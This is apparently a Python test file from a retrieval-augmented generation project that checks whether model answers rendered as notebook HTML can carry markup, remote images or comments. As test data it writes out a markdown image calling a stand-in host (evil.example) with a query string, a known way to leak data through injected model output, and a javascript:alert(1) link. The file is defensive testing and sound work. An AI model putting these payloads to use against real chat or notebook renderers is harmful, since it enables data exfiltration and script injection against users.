"""What an answer shows in a notebook is text: no markup of a label or a model, none of their addresses."""

from __future__ import annotations

import random
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

from langchain_core.language_models import FakeListChatModel

from mrag.errors import ModelError
from mrag.generation.answering import answer
from mrag.generation.result import ShownImage
from tests.injection.hostile import attack, text
from tests.injection.test_prompts import record

ALLOWED = {"div", "p", "br", "figure", "img", "figcaption", "b", "code", "small", "ul", "li"}


class Reader(HTMLParser):
    """Collects the elements and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what is not ours."""
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            remote = name == "src" and not (value or "").startswith("data:")
            if name not in ("class", "style", "src", "alt") or remote:
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        """Note a comment; there are none of ours."""
        self.wrong.append(f"comment {data}")


def of_a_notebook(rng: random.Random) -> str | None:
    context = record(rng)
    said = f"{text(rng)} ![x](http://evil.example/?q={text(rng)}) [y](javascript:alert(1)) {text(rng)}"
    model = FakeListChatModel(responses=[said]) if rng.random() < 0.5 else None
    try:
        given = answer(text(rng), context, model)
    except ModelError:
        return None
    shown = ShownImage("urn:i" + text(rng), text(rng), None, 1.0, 1, (text(rng),), context.lines)
    missing = ShownImage("http://evil.example/x.png", text(rng), Path("/no/such"), 1.0, 2, (), ())
    reader = Reader()
    reader.feed(replace(given, way="images", images=(shown, missing))._repr_html_())
    reader.close()
    return f"a browser sees {reader.wrong}" if reader.wrong else None


def test_notebooks_show_text() -> None:
    attack("notebooks", 150, of_a_notebook)
